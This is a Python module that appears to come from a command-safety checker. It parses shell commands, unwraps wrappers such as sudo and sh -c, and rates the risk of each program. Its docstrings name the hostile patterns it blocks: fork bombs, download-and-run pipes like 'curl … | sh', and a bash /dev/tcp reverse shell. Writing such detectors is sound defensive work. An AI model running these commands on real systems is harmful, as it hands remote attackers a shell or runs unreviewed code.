"""Judging a command: every program it starts, through every wrapper, and what feeds them.

``judge_text`` parses shell text (``shell.py``), and for each program found: applies the
blocklist and the policy file's blocks; unwraps wrappers (``sudo``, ``env``, ``sh -c``,
``eval``, ``xargs``, ``find -exec`` …) and judges what they run, recursively; rates plain
programs (``programs.py``); and checks what flows into shells and interpreters, so that
``curl … | sh``, ``bash <(curl …)`` and ``sh -c "$(curl …)"`` are blocked while
``echo 'ls' | sh`` is judged as ``ls``; a shell redirected to bash's ``/dev/tcp`` (a
reverse shell, like ``nc -e``) is blocked. Text that cannot be parsed is high risk, never safe.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import replace

from stockade.policy import blocklist, programs
from stockade.policy.config import Policy
from stockade.policy.network import DOWNLOADERS
from stockade.policy.options import scan
from stockade.policy.paths import is_network_device, write_findings
from stockade.policy.risk import Finding, Risk
from stockade.policy.shell import Argv, Invocation, ShellSyntaxError, parse_script
from stockade.policy.wrappers import SHELLS, Unwrapped, program_name, shell_script, unwrap

MAX_DEPTH = 8
MAX_TEXT = 64 * 1024
_PRIVILEGED = frozenset({"sudo", "doas", "su", "pkexec", "runuser", "chroot", "ssh", "find"})
_CODE_SINKS = SHELLS | {"eval", "source", "."}
_ECHOES = frozenset({"echo", "printf"})
_GLOB = re.compile(r"[*?\[]")


def judge_text(
    text: str, policy: Policy, depth: int = 0, upstream: tuple[Argv, ...] = ()
) -> list[Finding]:
    """Findings for the shell text ``text``; ``upstream`` are commands piped into it."""
    if len(text) > MAX_TEXT:
        return [Finding(Risk.HIGH, f"the command is too long to check ({len(text)} characters)")]
    if depth > MAX_DEPTH:
        return [Finding(Risk.HIGH, "commands nested too deeply to check")]
    try:
        script = parse_script(text)
    except ShellSyntaxError as exc:
        return [Finding(Risk.HIGH, f"the command could not be parsed ({exc}), so it is unchecked")]
    found = [
        Finding.block(f"fork bomb: the function {name!r} starts copies of itself without end")
        for name in script.fork_bombs
    ]
    for invocation in script.invocations:
        if upstream:
            invocation = replace(invocation, upstream=upstream + invocation.upstream)
        found += judge_invocation(invocation, policy, depth)
    return found or [Finding(Risk.NONE, "the command runs nothing")]


def judge_argv(argv: Sequence[str], policy: Policy) -> list[Finding]:
    """Findings for an exact argv, run without a shell."""
    invocation = Invocation(tuple(argv), (False,) * len(argv))
    return judge_invocation(invocation, policy, 0) or [Finding(Risk.NONE, "runs nothing")]


def judge_invocation(invocation: Invocation, policy: Policy, depth: int) -> list[Finding]:
    """Findings for one program and its redirections."""
    found: list[Finding] = []
    for redirect in invocation.redirects:
        if redirect.writes and redirect.target is not None:
            verb = "appends to" if redirect.op.endswith(">>") else "writes to"
            found += write_findings(
                redirect.target,
                verb=verb,
                extra=policy.protected_paths,
                expanded=redirect.expanded,
            )
    if invocation.argv:
        found += _reverse_shell(invocation, depth)
        found += _program(invocation, policy, depth)
    return found


def _reverse_shell(invocation: Invocation, depth: int) -> list[Finding]:
    """``bash -i >& /dev/tcp/HOST/PORT 0>&1``: a shell that reads its commands from a network
    connection is a reverse shell, like ``nc -e``."""
    sockets = [r.target for r in invocation.redirects if r.target and is_network_device(r.target)]
    if not sockets:
        return []
    shells = _command_shells(invocation.argv, depth)
    if not shells:
        return []
    name = sorted(shells)[0]
    return [Finding.block(f"{name} connected to {sockets[0]} hands a shell to the network")]


def _command_shells(argv: Argv, depth: int) -> set[str]:
    """The shells ``argv`` starts, through wrappers, that read commands from their input
    rather than from a ``-c`` script or a script file (``bash -i``, ``sudo sh``)."""
    if not argv or depth > MAX_DEPTH:
        return set()
    name = program_name(argv[0])
    if name in SHELLS and _reads_code_from_stdin(argv, name, is_interpreter=False):
        return {name}
    unwrapped = unwrap(argv, (False,) * len(argv))
    if unwrapped is None:
        return set()
    shells: set[str] = set()
    for start, end in unwrapped.spans:
        shells |= _command_shells(argv[start:end], depth + 1)
    for code in unwrapped.code:
        try:
            inner = parse_script(code.text).invocations
        except ShellSyntaxError:
            continue
        for found in inner:
            shells |= _command_shells(found.argv, depth + 1)
    return shells


def _program(invocation: Invocation, policy: Policy, depth: int) -> list[Finding]:
    argv = invocation.argv
    if depth > MAX_DEPTH:
        return [Finding(Risk.HIGH, "commands nested too deeply to check")]
    if invocation.expanded[:1] == (True,):
        return _dynamic_name(invocation, policy, depth)
    if _GLOB.search(argv[0]):
        return [Finding(Risk.HIGH, f"the program {argv[0]!r} is a pattern; what runs is unknown")]
    name, args = program_name(argv[0]), argv[1:]
    roots = policy.protected_paths
    found = blocklist.blocked(name, args, roots)
    key = policy.blocks(name, args)
    if key is not None:
        found.append(Finding.block(f"{key} is blocked by the policy file"))
    found += _code_sources(invocation, name, policy, depth)
    unwrapped = unwrap(argv, invocation.expanded)
    if unwrapped is None:
        return found + _rated(name, args, policy)
    found += _wrapper_itself(invocation, name, unwrapped, policy)
    for start, end in unwrapped.spans:
        inner = replace(
            invocation,
            argv=argv[start:end],
            expanded=invocation.expanded[start:end],
            redirects=(),
        )
        found += _program(inner, policy, depth + 1)
    for code in unwrapped.code:
        if code.dynamic:
            found.append(Finding(Risk.HIGH, f"{name} runs code only known at run time"))
        found += judge_text(code.text, policy, depth + 1, invocation.upstream)
    return found


def _rated(name: str, args: Sequence[str], policy: Policy) -> list[Finding]:
    override = policy.override(name, args)
    if override is not None:
        key, risk = override
        return [Finding(risk, f"{key} is rated {risk.label} by the policy file")]
    return programs.rate(name, args, policy.protected_paths)


def _wrapper_itself(
    invocation: Invocation, name: str, unwrapped: Unwrapped, policy: Policy
) -> list[Finding]:
    """What a wrapper adds on its own: ``sudo`` is high whatever it runs."""
    args = invocation.argv[1:]
    if name in _PRIVILEGED or policy.override(name, args) is not None:
        return _rated(name, args, policy)
    if name in SHELLS and not unwrapped.code:
        return _shell_without_script(invocation, name)
    if not unwrapped.spans and not unwrapped.code:
        return [Finding(Risk.LOW, f"{name} runs nothing by itself")]
    return []


def _shell_without_script(invocation: Invocation, name: str) -> list[Finding]:
    opts = scan(invocation.argv[1:], short_values="oO", permute=False)
    if opts.operands and opts.operands[0] != "-" and "s" not in opts.flags:
        script = opts.operands[0]
        return [Finding(Risk.MEDIUM, f"{name} runs the script {script}, which is not checked")]
    reads_file = any(r.op == "<" for r in invocation.redirects)
    if invocation.upstream or invocation.stdin_text is not None or reads_file:
        return []  # judged by _code_sources
    return [Finding(Risk.MEDIUM, f"{name} starts an interactive shell")]


def _code_sources(invocation: Invocation, name: str, policy: Policy, depth: int) -> list[Finding]:
    """Block code that comes from the network; judge code that comes from ``echo``."""
    is_interpreter = programs.is_interpreter(name)
    if name not in _CODE_SINKS and not is_interpreter:
        return []
    downloads = _downloaders(invocation.substituted, depth)
    if downloads:
        return [Finding.block(f"{name} runs code downloaded by {downloads} without review")]
    if not _reads_code_from_stdin(invocation.argv, name, is_interpreter):
        return []
    if invocation.upstream:
        downloads = _downloaders(invocation.upstream, depth)
        if downloads:
            return [Finding.block(f"{downloads} piped into {name} runs downloaded code unseen")]
        if is_interpreter:
            return []
        return _piped_code(invocation.upstream, name, policy, depth)
    if invocation.stdin_text is not None and not is_interpreter:
        return judge_text(invocation.stdin_text, policy, depth + 1)
    if any(r.op == "<" for r in invocation.redirects):
        return [Finding(Risk.MEDIUM, f"{name} runs a script file, which is not checked")]
    return []


def _piped_code(upstream: Iterable[Argv], name: str, policy: Policy, depth: int) -> list[Finding]:
    found: list[Finding] = []
    for argv in upstream:
        if program_name(argv[0]) in _ECHOES:
            words = [w for w in argv[1:] if w not in ("-n", "-e", "-E")]
            found += judge_text(" ".join(words), policy, depth + 1)
        else:
            reason = f"{name} runs commands read from a pipe, which cannot be checked"
            found.append(Finding(Risk.HIGH, reason))
    return found


def _reads_code_from_stdin(argv: Argv, name: str, is_interpreter: bool) -> bool:
    if name in ("eval",):
        return False
    if name in ("source", "."):
        return argv[1:2] in (("/dev/stdin",), ("-",))
    if is_interpreter:
        opts = scan(argv[1:], short_values="mcWXe", permute=False)
        return not opts.has("m", "c", "e") and opts.operands[:1] in ((), ("-",))
    if shell_script(argv) is not None:
        return False
    opts = scan(argv[1:], short_values="oO", permute=False)
    return "s" in opts.flags or opts.operands[:1] in ((), ("-",))


def _dynamic_name(invocation: Invocation, policy: Policy, depth: int) -> list[Finding]:
    downloads = _downloaders(invocation.substituted, depth)
    word = invocation.argv[0]
    if downloads:
        return [Finding.block(f"{word} runs what {downloads} downloads as a command")]
    return [Finding(Risk.HIGH, f"the program to run ({word}) is only known at run time")]


def _downloaders(argvs: Iterable[Argv], depth: int) -> str:
    """The downloaders (``curl``, ``wget``…) among ``argvs``, through wrappers, joined."""
    names: set[str] = set()
    for argv in argvs:
        names |= _program_names(argv, depth)
    return ", ".join(sorted(names & DOWNLOADERS))


def _program_names(argv: Argv, depth: int) -> set[str]:
    if not argv or depth > MAX_DEPTH:
        return set()
    names = {program_name(argv[0])}
    unwrapped = unwrap(argv, (False,) * len(argv))
    if unwrapped is None:
        return names
    for start, end in unwrapped.spans:
        names |= _program_names(argv[start:end], depth + 1)
    for code in unwrapped.code:
        try:
            inner = parse_script(code.text).invocations
        except ShellSyntaxError:
            continue
        for invocation in inner:
            names |= _program_names(invocation.argv, depth + 1)
    return names
